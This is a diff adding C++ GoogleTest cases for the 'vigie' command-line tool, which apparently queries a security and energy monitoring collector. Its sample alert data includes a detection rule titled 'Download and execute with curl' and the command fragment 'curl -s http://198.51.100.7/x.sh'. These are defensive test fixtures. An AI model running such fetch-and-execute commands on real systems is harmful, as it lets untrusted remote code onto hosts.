@@ -1,0 +1,154 @@
+// Runs the built `vigie` binary against an in-process collector.
+#include <gtest/gtest.h>
+#include <sys/wait.h>
+
+#include <cstdio>
+#include <nlohmann/json.hpp>
+
+#include "../collector/sample_batch.h"
+#include "vigie/collector/handler.h"
+#include "vigie/collector/server.h"
+#include "vigie/collector/sqlite_store.h"
+
+namespace vigie::collector {
+namespace {
+
+using testing::kSecondNs;
+using testing::sample_batch;
+
+struct Run {
+  int exit_code = -1;
+  std::string output;  // stdout and stderr
+};
+
+Run run(const std::string& arguments, const std::string& environment = "") {
+  const std::string command = environment + " " + VIGIE_CLI_PATH + " " + arguments + " 2>&1";
+  Run result;
+  FILE* pipe = popen(command.c_str(), "r");
+  if (pipe == nullptr) return result;
+  char buffer[4096];
+  for (std::size_t n; (n = fread(buffer, 1, sizeof buffer, pipe)) > 0;)
+    result.output.append(buffer, n);
+  const int status = pclose(pipe);
+  result.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+  return result;
+}
+
+class VigieCliTest : public ::testing::Test {
+ protected:
+  VigieCliTest() : store_((dir_.path() / "collector.db").string()) {
+    config_.port = 0;
+    config_.threads = 1;
+    handler_ = std::make_unique<Handler>(config_, store_, metrics_);
+    server_ = std::make_unique<Server>(config_, *handler_);
+    server_->start();
+    collector_ = "--collector http://127.0.0.1:" + std::to_string(server_->port());
+
+    // A minute ago, so that the default five-minute energy window holds it.
+    const uint64_t now =
+        static_cast<uint64_t>(std::chrono::duration_cast<std::chrono::nanoseconds>(
+                                  std::chrono::system_clock::now().time_since_epoch())
+                                  .count());
+    EXPECT_EQ(store_.store_batch(sample_batch(1, "node1", now - 60 * kSecondNs), now).status,
+              StoreOutcome::Status::kStored);
+    auto estimated = sample_batch(1, "node2", now - 60 * kSecondNs);
+    estimated.alerts.clear();
+    estimated.zone_energy = {{now - 60 * kSecondNs, now - 50 * kSecondNs, "node",
+                              protocol::EnergySource::kEstimate, true, 45}};
+    for (auto& workload : estimated.workload_energy) workload.estimated = true;
+    EXPECT_EQ(store_.store_batch(estimated, now).status, StoreOutcome::Status::kStored);
+  }
+
+  testing::TempDir dir_;
+  Config config_;
+  SqliteStore store_;
+  Metrics metrics_;
+  std::unique_ptr<Handler> handler_;
+  std::unique_ptr<Server> server_;
+  std::string collector_;
+};
+
+TEST_F(VigieCliTest, PrintsAlertsAsATable) {
+  const auto result = run(collector_ + " alerts");
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  const auto& out = result.output;
+  EXPECT_EQ(out.rfind("TIME", 0), 0u) << out;
+  for (const char* text :
+       {"LEVEL", "COMMAND LINE", "high", "Download and execute with curl", "node1", "alice", "4242",
+        "slurm_job:42", "curl -s http://198.51.100.7/x.sh"}) {
+    EXPECT_NE(out.find(text), std::string::npos) << text << "\n" << out;
+  }
+  // Local ISO time: 2024-05-01T14:03:07+0200
+  EXPECT_EQ(out[out.find('\n') + 11], 'T') << out;
+}
+
+TEST_F(VigieCliTest, PrintsTheApisJsonAsIs) {
+  const auto result = run(collector_ + " --json alerts");
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  const auto body = nlohmann::json::parse(result.output);
+  ASSERT_EQ(body.at("alerts").size(), 1u);
+  EXPECT_EQ(body["alerts"][0].at("rule_title"), "Download and execute with curl");
+  EXPECT_NE(result.output.find("\n  \"alerts\""), std::string::npos) << "not pretty-printed";
+}
+
+TEST_F(VigieCliTest, FiltersEvents) {
+  const auto connects = run(collector_ + " events --kind network_connect --host node1 --since 10m");
+  ASSERT_EQ(connects.exit_code, 0) << connects.output;
+  EXPECT_NE(connects.output.find("/usr/bin/curl → tcp 198.51.100.7:443"), std::string::npos)
+      << connects.output;
+  EXPECT_EQ(connects.output.find("process_exec"), std::string::npos) << connects.output;
+  EXPECT_EQ(connects.output.find("node2"), std::string::npos) << connects.output;
+
+  const auto all = run(collector_ + " --json events --since 10m");
+  ASSERT_EQ(all.exit_code, 0) << all.output;
+  EXPECT_EQ(nlohmann::json::parse(all.output).at("events").size(), 6u);
+  const auto none = run(collector_ + " events --since 5s");
+  EXPECT_NE(none.output.find("no events"), std::string::npos) << none.output;
+}
+
+TEST_F(VigieCliTest, PrintsEnergyWithEstimatesFlagged) {
+  const auto result = run(collector_ + " energy");
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  const auto& out = result.output;
+  for (const char* text :
+       {"Nodes", "Workloads", "node1", "12.0 W", "120 J", "1.500 g", "node2", "4.50 W",
+        "(estimated)", "slurm_job:42", "unattributed", "9.00 W", "8.0 s"}) {
+    EXPECT_NE(out.find(text), std::string::npos) << text << "\n" << out;
+  }
+  // node1 is measured: its line carries no flag.
+  const auto node1 =
+      out.substr(out.find("node1"), out.find('\n', out.find("node1")) - out.find("node1"));
+  EXPECT_EQ(node1.find("estimated"), std::string::npos) << node1;
+  const auto only = run(collector_ + " energy --host node2");
+  EXPECT_EQ(only.output.find("node1"), std::string::npos) << only.output;
+}
+
+TEST_F(VigieCliTest, UsesVigieCollectorFromTheEnvironment) {
+  const auto result =
+      run("agents", "VIGIE_COLLECTOR=http://127.0.0.1:" + std::to_string(server_->port()));
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_NE(result.output.find("agent-node1"), std::string::npos) << result.output;
+}
+
+TEST_F(VigieCliTest, FailsClearly) {
+  const auto unreachable = run("--collector http://127.0.0.1:1 alerts");
+  EXPECT_EQ(unreachable.exit_code, 2);
+  EXPECT_NE(unreachable.output.find("cannot reach the collector at http://127.0.0.1:1"),
+            std::string::npos)
+      << unreachable.output;
+
+  const auto refused = run(collector_ + " events --kind fork");
+  EXPECT_EQ(refused.exit_code, 1);
+  EXPECT_NE(refused.output.find("the collector answered 400"), std::string::npos) << refused.output;
+  EXPECT_NE(refused.output.find("'kind'"), std::string::npos) << refused.output;
+
+  const auto bad_since = run(collector_ + " events --since yesterday");
+  EXPECT_EQ(bad_since.exit_code, 1);
+  EXPECT_NE(bad_since.output.find("--since expects a duration"), std::string::npos)
+      << bad_since.output;
+
+  EXPECT_NE(run("").exit_code, 0);
+}
+
+}  // namespace
+}  // namespace vigie::collector
